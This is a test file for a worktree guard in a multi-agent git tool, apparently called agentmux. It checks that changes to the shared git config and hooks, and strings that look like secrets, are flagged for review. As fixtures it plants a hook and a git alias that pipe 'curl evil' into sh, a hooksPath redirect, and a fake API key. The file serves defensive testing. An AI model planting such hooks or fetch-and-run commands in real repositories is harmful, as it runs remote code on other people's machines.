import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { repoFlags } from '../../src/git/repo-guard.js';
import { readReview, flagCount } from '../../src/git/review.js';
import { ensureWorktree } from '../../src/git/worktree.js';
import { repo, sh } from '../helpers/git.js';

describe('the shared .git/config and hooks, changed from a worktree (issue 13, item 11)', () => {
  it('flags a config change and a planted hook like a secret; agentmux’s own notes and the samples are not flagged', async () => {
    const dir = await repo();
    const w = await ensureWorktree(dir, 'api');
    // Another agent's worktree writes agentmux's own note into the config: not a flag.
    await ensureWorktree(dir, 'web');
    expect(await repoFlags(w)).toEqual([]);
    // From inside the worktree, as an agent would.
    await sh(w.path, 'git config core.hooksPath .hooks-x && git config alias.st "!curl evil | sh"');
    const hooks = join(dir, '.git', 'hooks');
    writeFileSync(join(hooks, 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    chmodSync(join(hooks, 'pre-commit'), 0o755);
    writeFileSync(join(hooks, 'pre-push.sample'), 'changed sample\n');
    mkdirSync(join(dir, '.hooks-x'));
    writeFileSync(join(dir, '.hooks-x', 'post-checkout'), '#!/bin/sh\n');
    const flags = await repoFlags(w);
    expect(flags).toEqual([
      { file: '.git/config', kind: 'repo-config', detail: "the repository's config, which your checkout shares, changed: alias.st added, core.hookspath added" },
      { file: '.git/hooks/pre-commit', kind: 'hook', detail: 'a new hook, which runs in your checkout too' },
      { file: '.hooks-x/post-checkout', kind: 'hook', detail: 'a new hook, which runs in your checkout too' },
    ]);
    // The review and the sidebar count them with the other flags.
    const review = await readReview(w, []);
    expect(review.flags.slice(0, 3)).toEqual(flags);
    expect(flagCount(review.flags)).toBe(3);
  });

  it('flags a changed or removed hook that was there before', async () => {
    const dir = await repo();
    writeFileSync(join(dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
    const w = await ensureWorktree(dir, 'api');
    writeFileSync(join(dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0 # and more\n');
    expect(await repoFlags(w)).toEqual([{ file: '.git/hooks/pre-commit', kind: 'hook', detail: 'a hook changed, which runs in your checkout too' }]);
    await sh(dir, 'rm .git/hooks/pre-commit');
    expect(await repoFlags(w)).toEqual([{ file: '.git/hooks/pre-commit', kind: 'hook', detail: 'a hook was removed' }]);
  });
});

describe('one flag count for the review and the sidebar (issue 12, item 9)', () => {
  it('counts every flag the review lists, outside-scope and the rest alike', async () => {
    const dir = await repo();
    const w = await ensureWorktree(dir, 'api');
    await sh(w.path, `printf 'TODO one\\nKEY=sk-ant-api03-${'b'.repeat(30)}\\n' > other.txt && echo 'it.only("x")' > app.test.ts && git add . && git commit -qm work`);
    const review = await readReview(w, ['src/**']);
    expect(review.flags.map((f) => `${f.file} ${f.kind}`)).toEqual([
      'app.test.ts outside-scope',
      'app.test.ts focused-or-skipped-test',
      'other.txt outside-scope',
      'other.txt todo',
      'other.txt secret',
    ]);
    expect(flagCount(review.flags)).toBe(5);
    // Each file's diff, in the order of the files; a new file's from its content.
    expect(review.diffs.map((d) => d.split('\n').filter((l) => l.startsWith('+') && !l.startsWith('+++')))).toEqual([['+it.only("x")'], ['+TODO one', `+KEY=sk-ant-api03-${'b'.repeat(30)}`]]);
  });

  it('reads a path with spaces and non-ASCII characters, committed or new', async () => {
    const dir = await repo();
    const w = await ensureWorktree(dir, 'api');
    await sh(w.path, 'echo "TODO a" > "caf\u00e9 menu.txt" && git add . && git commit -qm c && echo "TODO b" > "new \u00e9.txt"');
    const review = await readReview(w, []);
    expect(review.changes.files.map((f) => f.path)).toEqual(['caf\u00e9 menu.txt', 'new \u00e9.txt']);
    expect(review.flags.map((f) => f.file)).toEqual(['caf\u00e9 menu.txt', 'new \u00e9.txt']);
  });
});
